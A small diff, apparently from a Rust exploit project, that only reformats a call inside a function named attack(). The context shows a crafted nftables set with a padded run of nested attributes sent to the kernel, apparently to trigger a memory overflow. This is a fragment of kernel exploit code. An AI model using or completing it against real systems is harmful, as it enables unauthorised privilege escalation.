@@ -28,14 +28,8 @@ pub fn attack() -> io::Result<()> {
     let field = Attributes::new().number(1, 0x41);
     let fields = (0..ROOM + MORE).fold(Attributes::new(), |fields, _| fields.nest(1, &field));
     let description = Attributes::new().nest(2, &fields);
-    let set = nft::set(
-        TABLE,
-        "fields",
-        nft::SET_INTERVAL | nft::SET_CONCAT,
-        64,
-        1,
-    )
-    .nest(9, &description);
+    let set =
+        nft::set(TABLE, "fields", nft::SET_INTERVAL | nft::SET_CONCAT, 64, 1).nest(9, &description);
     Batch::new()
         .add(libc::NFT_MSG_NEWSET, nft::IP, nft::CREATE, &set)
         .send()
